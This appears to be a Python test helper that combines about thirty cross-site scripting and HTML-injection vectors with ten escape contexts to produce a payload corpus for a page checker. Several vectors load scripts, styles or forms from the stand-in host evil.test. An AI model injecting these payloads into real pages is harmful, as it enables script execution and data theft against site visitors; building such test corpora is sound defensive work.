"""Texts that would run a script, or ask somebody for something, if a page took them for markup."""

from helpers.page_checker import HOSTILE

_VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<form action=//evil.test><button>send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<div style=background:url(//evil.test/x.png)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "[go](javascript:alert(1))",
    "![x](https://evil.test/x.png)",
    "<custom-element onclick=alert(1)>",
)
_CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></style></script>{}",
    "-->{}<!--",
    "`{}`",
    "```\n{}\n```",
    "&lt;{}&gt;",
    "{{{{{}}}}}",
)


def list_payloads() -> list[str]:
    """Return at least three hundred different texts."""
    made = [context.format(vector) for vector in _VECTORS for context in _CONTEXTS]
    return list(dict.fromkeys([*HOSTILE, *made]))
